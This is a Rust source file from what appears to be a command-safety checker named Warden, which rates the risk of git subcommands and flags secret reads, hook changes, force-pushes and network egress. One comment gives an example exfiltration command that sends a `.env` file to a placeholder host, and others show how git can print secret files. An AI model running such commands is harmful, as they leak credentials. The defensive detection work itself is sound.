//! `git`, subcommand by subcommand.

use super::carried::{GitKey, git_config_key, git_value_script};
use super::{Input, Verdict, normalized, split_flags, take_carried};
use crate::Risk;
use crate::paths::FileOp;
use crate::shell::words::Word;

/// `git`: read-only subcommands are Low, changes to the repository Medium, discarding
/// work or publishing High, rewriting a remote's history Critical.
pub(super) fn git(input: &Input<'_>) -> Verdict {
    let args = normalized("git", input.args);
    // Global options left by the normal form before the subcommand.
    let mut i = 0;
    let mut v = Verdict::new(Risk::Low, "");
    // `git -C DIR` works in DIR (the normal form drops it): DIR is read like any
    // folder, so `git -C ~/.ssh log` is judged as reading `~/.ssh`.
    let mut k = 0;
    while let Some(a) = input.args.get(k) {
        if a.dynamic || !a.text.starts_with('-') {
            break;
        }
        if a.text == "-C" {
            if let Some(dir) = input.args.get(k + 1) {
                v.word(FileOp::Read, dir, input);
            }
            k += 1;
        }
        k += 1;
    }
    while i < args.len() && args[i].text.starts_with('-') && !args[i].dynamic {
        match args[i].text.as_str() {
            "-c" => {
                match args.get(i + 1) {
                    Some(kv) if !kv.dynamic => {
                        let (key, value) = kv.text.split_once('=').unwrap_or((&kv.text, "true"));
                        config_value(&mut v, key, value, "Runs git with");
                    }
                    _ => {
                        v.opaque = true;
                        v.raise(
                            Risk::High,
                            "Runs git with configuration only known at run time.",
                        );
                    }
                }
                i += 2;
            }
            "--exec-path" | "--config-env" => {
                v.raise(Risk::High, "Runs git with configuration set on the command line, which can run any program.");
                i += 2;
            }
            "--git-dir" | "--work-tree" | "--namespace" => {
                v.raise(Risk::Medium, "Runs git on another repository or work tree.");
                i += 2;
            }
            t if t.starts_with("--git-dir=") || t.starts_with("--work-tree=") => {
                v.raise(Risk::Medium, "Runs git on another repository or work tree.");
                i += 1;
            }
            "--version" | "--help" | "-h" => {
                return Verdict::new(Risk::Low, "Asks git for its version or help.");
            }
            // Global options that change nothing git runs or where it looks (editors
            // run `git --no-optional-locks status` constantly).
            "--no-optional-locks"
            | "--literal-pathspecs"
            | "--glob-pathspecs"
            | "--noglob-pathspecs"
            | "--icase-pathspecs"
            | "--no-replace-objects"
            | "--no-advice"
            | "--no-lazy-fetch"
            | "-p"
            | "--paginate"
            | "-P"
            | "--no-pager" => {
                i += 1;
            }
            t if t.starts_with("--exec-path") || t.starts_with("--config-env") => {
                v.raise(
                    Risk::High,
                    "Runs git with a program path set on the command line.",
                );
                i += 1;
            }
            other => {
                v.raise(
                    Risk::High,
                    format!("Runs git with the option {other}, which Warden does not know."),
                );
                i += 1;
            }
        }
    }
    let Some(sub_word) = args.get(i) else {
        v.raise(
            Risk::Low,
            "Runs git without a subcommand, which prints its help.",
        );
        return v;
    };
    if sub_word.dynamic {
        v.raise(
            Risk::High,
            format!(
                "Runs git with a subcommand only known at run time ({}).",
                sub_word.text
            ),
        );
        v.opaque = true;
        return v;
    }
    let sub = sub_word.text.as_str();
    take_carried(&mut v, "git", &args[i..]);
    let rest = &args[i + 1..];
    let (flags, operands) = split_flags(rest);
    let has = |f: &str| {
        flags
            .iter()
            .any(|x| x == f || x.starts_with(&format!("{f}=")))
    };
    let first_operand = operands.first().map(|w| w.text.as_str());
    // Files git reads or writes outside its repository: `--output=F` (log, diff,
    // format-patch), `--contents=F` (blame), and `diff --no-index A B`.
    for flag in &flags {
        if let Some(target) = flag.strip_prefix("--output=") {
            v.word(FileOp::Write, &Word::literal(target), input);
        } else if let Some(source) = flag.strip_prefix("--contents=") {
            v.word(FileOp::Read, &Word::literal(source), input);
        }
    }
    // `git diff /dev/null FILE` compares files outside git's index (as
    // `--no-index` does), so both are read.
    if sub == "diff" && (has("--no-index") || operands.iter().any(|o| o.text == "/dev/null")) {
        for operand in &operands {
            v.word(FileOp::Read, operand, input);
        }
    }
    secret_reads(&mut v, sub, &flags, &operands, rest, input);
    v.secrets |= sub == "config" && dumps_config(&flags, &operands);
    egress(&mut v, sub, &operands);
    let (risk, reason): (Risk, String) = match sub {
        "status" | "log" | "diff" | "show" | "rev-parse" | "ls-files" | "ls-tree" | "blame"
        | "shortlog" | "describe" | "grep" | "cat-file" | "whatchanged" | "count-objects"
        | "merge-base" | "name-rev" | "for-each-ref" | "show-ref" | "rev-list" | "check-ignore"
        | "var" | "version" | "help" | "annotate" | "show-branch" | "ls-remote" | "range-diff"
        | "diff-tree" | "diff-files" | "diff-index" | "verify-commit" | "verify-tag" | "fsck"
        | "cherry" => {
            if sub == "cat-file" && flags.iter().any(|f| f.starts_with("--batch")) {
                (
                    Risk::Medium,
                    "Runs git cat-file --batch, which prints the objects named on its input, which Warden cannot see.".into(),
                )
            } else if has("--output") || has("--ext-diff") {
                (
                    Risk::Medium,
                    format!("Runs git {sub} with an option that writes a file or runs a program."),
                )
            } else {
                (Risk::Low, format!("Runs git {sub}, which only reads."))
            }
        }
        "branch" => {
            if has("-D") || (has("-d") && has("-f")) {
                (
                    Risk::High,
                    "Force-deletes a git branch, which can lose commits.".into(),
                )
            } else if operands.is_empty()
                || has("-l")
                || has("--list")
                || has("--show-current")
                || has("--contains")
            {
                (Risk::Low, "Lists git branches.".into())
            } else {
                (
                    Risk::Medium,
                    "Creates, renames or deletes a git branch.".into(),
                )
            }
        }
        "tag" => {
            if operands.is_empty() || has("-l") || has("--list") {
                (Risk::Low, "Lists git tags.".into())
            } else {
                (Risk::Medium, "Creates or deletes a git tag.".into())
            }
        }
        "remote" => match first_operand {
            None | Some("show" | "get-url") => (Risk::Low, "Lists git remotes.".into()),
            Some(_) => (Risk::Medium, "Changes git remotes.".into()),
        },
        "stash" => match first_operand {
            Some("list" | "show") => (Risk::Low, "Lists git stashes.".into()),
            Some("drop" | "clear") => (
                Risk::High,
                "Drops git stashes, which loses their changes.".into(),
            ),
            _ => (Risk::Medium, "Stashes or restores changes.".into()),
        },
        "config" if dumps_config(&flags, &operands) => (
            Risk::Medium,
            "Prints git configuration that can hold tokens (in remote URLs, credential \
             helpers and extra headers)."
                .into(),
        ),
        "config" => {
            if has("--get")
                || has("--list")
                || has("-l")
                || has("--get-all")
                || has("--get-regexp")
                || operands.len() == 1
            {
                (Risk::Low, "Reads git configuration.".into())
            } else if let Some(key) = operands
                .first()
                .filter(|k| k.dynamic || git_config_key(&k.text) != GitKey::Inert)
            {
                // The value runs later, whenever git needs it: the option is High,
                // and the command it names is judged too.
                if let Some(value) = operands.get(1) {
                    if value.dynamic || key.dynamic {
                        v.opaque = true;
                    } else {
                        config_value(&mut v, &key.text, &value.text, "Sets");
                    }
                }
                (
                    Risk::High,
                    format!(
                        "Sets the git option {}, which makes git run a program or read configuration from elsewhere later.",
                        key.text
                    ),
                )
            } else if has("--global") || has("--system") {
                (
                    Risk::High,
                    "Changes the user's or the system's git configuration.".into(),
                )
            } else {
                (
                    Risk::Medium,
                    "Changes the repository's git configuration.".into(),
                )
            }
        }
        "worktree" => match first_operand {
            Some("list") => (Risk::Low, "Lists git worktrees.".into()),
            _ => (Risk::Medium, "Changes git worktrees.".into()),
        },
        "submodule" => match first_operand {
            None | Some("status" | "summary") => (Risk::Low, "Lists git submodules.".into()),
            _ => (Risk::Medium, "Changes git submodules.".into()),
        },
        "reflog" => match first_operand {
            None | Some("show") => (Risk::Low, "Shows the git reflog.".into()),
            _ => (
                Risk::High,
                "Changes the git reflog, which can lose history.".into(),
            ),
        },
        "add" | "commit" | "checkout" | "switch" | "merge" | "rebase" | "cherry-pick"
        | "revert" | "init" | "fetch" | "pull" | "mv" | "restore" | "am" | "apply" | "notes"
        | "gc" | "prune" | "repack" | "bisect" | "sparse-checkout" | "lfs" | "format-patch" => {
            if sub == "checkout" && has("-f")
                || sub == "restore" && operands.iter().any(|o| o.text == ".")
                || sub == "checkout" && operands.iter().any(|o| o.text == ".")
            {
                (
                    Risk::High,
                    format!("Runs git {sub} in a way that discards uncommitted changes."),
                )
            } else if sub == "commit" && has("-n") {
                (
                    Risk::Medium,
                    "Commits without running the repository's hooks.".into(),
                )
            } else {
                (
                    Risk::Medium,
                    format!("Runs git {sub}, which changes the repository."),
                )
            }
        }
        "reset" => {
            if has("--hard") || has("--merge") || has("--keep") {
                (
                    Risk::High,
                    "Runs git reset --hard, which discards uncommitted changes.".into(),
                )
            } else {
                (
                    Risk::Medium,
                    "Runs git reset, which moves the branch.".into(),
                )
            }
        }
        "clean" => {
            if has("-n") {
                (Risk::Low, "Runs git clean as a dry run.".into())
            } else {
                (
                    Risk::High,
                    "Runs git clean, which deletes untracked files for good.".into(),
                )
            }
        }
        "rm" => {
            if has("--cached") {
                (Risk::Medium, "Removes files from the git index.".into())
            } else {
                (Risk::High, "Deletes tracked files with git rm.".into())
            }
        }
        "push" => {
            let force_refspec = operands.iter().any(|o| o.text.starts_with('+'));
            if has("-f")
                || has("--force-with-lease")
                || has("--force-if-includes")
                || has("--mirror")
                || force_refspec
            {
                (
                    Risk::Critical,
                    "Force-pushes with git, which can overwrite others' history on the remote."
                        .into(),
                )
            } else if has("-d") || operands.iter().any(|o| o.text.starts_with(':')) {
                (Risk::High, "Deletes a branch on the git remote.".into())
            } else if has("-n") {
                (Risk::Low, "Runs git push as a dry run.".into())
            } else {
                (
                    Risk::High,
                    "Pushes commits to a git remote, which publishes them.".into(),
                )
            }
        }
        "clone" => (
            Risk::High,
            "Clones a git repository from the network.".into(),
        ),
        "filter-branch" | "filter-repo" | "replace" | "update-ref" | "symbolic-ref" => (
            Risk::High,
            format!("Runs git {sub}, which rewrites repository history or references."),
        ),
        _ => (
            Risk::High,
            format!("Runs git {sub}, a subcommand (or alias) Warden does not know."),
        ),
    };
    v.raise(risk, reason);
    if v.reason.is_empty() {
        v.reason = format!("Runs git {sub}.");
    }
    v
}

/// The files git's reading subcommands print: `REV:PATH` and `:PATH` blobs (`git show
/// HEAD:.env`, `git cat-file -p HEAD:.env`), the paths after `--` of `log`, `diff`,
/// `show` and `blame`, and every file below the folder for `git grep --no-index` or
/// `--untracked` (which read files git does not track, `.env` among them). Each is
/// judged as a read of the file in the work tree, so a secret is as sensitive in
/// history as on disk.
fn secret_reads(
    v: &mut Verdict,
    sub: &str,
    flags: &[String],
    operands: &[Word],
    rest: &[Word],
    input: &Input<'_>,
) {
    if !matches!(
        sub,
        "show" | "cat-file" | "log" | "diff" | "blame" | "grep" | "archive" | "whatchanged"
    ) {
        return;
    }
    for operand in operands {
        if operand.dynamic || operand.text.contains("://") {
            continue;
        }
        if let Some((_, path)) = operand.text.split_once(':')
            && !path.is_empty()
        {
            v.word(FileOp::Read, &Word::literal(path), input);
        }
    }
    if let Some(dashdash) = rest.iter().position(|w| w.text == "--") {
        for path in &rest[dashdash + 1..] {
            v.word(FileOp::Read, path, input);
        }
    } else if matches!(sub, "log" | "diff" | "show" | "whatchanged") {
        // Without `--`, git takes an operand that names a file as a path (`git log
        // -p .env` prints its history): each is judged as a read of that file. A
        // revision read as a path names nothing sensitive.
        for operand in operands.iter().filter(|o| !o.text.contains(':')) {
            v.word(FileOp::Read, operand, input);
        }
    } else if sub == "blame"
        && let Some(path) = operands.last()
    {
        v.word(FileOp::Read, path, input);
    }
    if sub == "grep"
        && flags
            .iter()
            .any(|f| f == "--no-index" || f == "--untracked")
    {
        super::files::sweep(v, "git grep", &[], &[], &[], input);
    }
}

/// Whether `git config` prints configuration that can hold tokens: a listing, a
/// pattern of keys, or one of the keys that hold them (`remote.*.url`,
/// `credential.*`, `http.*.extraheader`, `url.*`).
fn dumps_config(flags: &[String], operands: &[Word]) -> bool {
    let listing = flags.iter().any(|f| {
        matches!(
            f.as_str(),
            "--list" | "-l" | "--get-regexp" | "--show-origin" | "--show-scope"
        )
    });
    let reads = flags
        .iter()
        .any(|f| matches!(f.as_str(), "--get" | "--get-all" | "--get-urlmatch"))
        || operands.len() == 1;
    let token_key = operands
        .first()
        .is_some_and(|k| k.dynamic || holds_token(&k.text.to_ascii_lowercase()));
    listing || (reads && token_key)
}

/// Git configuration keys whose values can carry a token.
fn holds_token(key: &str) -> bool {
    (key.starts_with("remote.") && (key.ends_with(".url") || key.ends_with(".pushurl")))
        || key.starts_with("credential")
        || key.contains("extraheader")
        || key.starts_with("url.")
}

/// Git subcommands that contact a host: given a URL rather than a configured remote,
/// the host is the command's choice, and the URL itself can carry data out (`git
/// ls-remote https://x.example/$(cat .env)`): High, as any network tool.
fn egress(v: &mut Verdict, sub: &str, operands: &[Word]) {
    if !matches!(
        sub,
        "ls-remote" | "fetch" | "pull" | "push" | "clone" | "archive" | "remote" | "submodule"
    ) {
        return;
    }
    if let Some(url) = operands
        .iter()
        .find(|o| o.dynamic || looks_like_url(&o.text))
    {
        v.raise(
            Risk::High,
            format!(
                "Runs git {sub} against {}, a host the command names, which sends data over the network.",
                url.text
            ),
        );
    }
}

/// A git URL: `scheme://...`, `user@host:path`, or `host:path` with a dot in the host.
pub(in crate::shell) fn looks_like_url(text: &str) -> bool {
    if text.contains("://") {
        return true;
    }
    match text.split_once(':') {
        Some((host, path)) => {
            !host.is_empty()
                && !path.is_empty()
                && !host.contains('/')
                && (host.contains('@') || host.contains('.'))
        }
        None => false,
    }
}

/// Judges one git configuration `key=value`: a command it runs becomes a script of
/// the verdict, a key that moves configuration or programs is High, any other key
/// runs nothing.
fn config_value(v: &mut Verdict, key: &str, value: &str, verb: &str) {
    // `core.hooksPath` names the folder whose programs git runs on commit, merge,
    // checkout, push...: pointing it anywhere is an execution-config change, as
    // writing `.git/hooks` is. Pointing it at nothing turns the hooks off, as
    // `--no-verify` does.
    if key.eq_ignore_ascii_case("core.hooksPath") {
        if matches!(value.trim(), "" | "/dev/null") {
            v.raise(
                Risk::Medium,
                format!(
                    "{verb} core.hooksPath to nothing, which turns the repository's hooks off."
                ),
            );
        } else {
            v.raise(
                Risk::Critical,
                format!(
                    "{verb} core.hooksPath to {value}, so git runs the programs there as hooks on commit, merge, checkout and push."
                ),
            );
        }
        return;
    }
    match git_config_key(key) {
        GitKey::Runs => {
            if let Some(script) = git_value_script(key, value) {
                v.raise(
                    Risk::Low,
                    format!("{verb} the git option {key}, whose command is judged on its own."),
                );
                v.scripts.push(script);
            }
        }
        GitKey::Moves => v.raise(
            Risk::High,
            format!("{verb} the git option {key}, which moves where git reads configuration, hooks or repositories."),
        ),
        GitKey::Inert => {}
    }
}
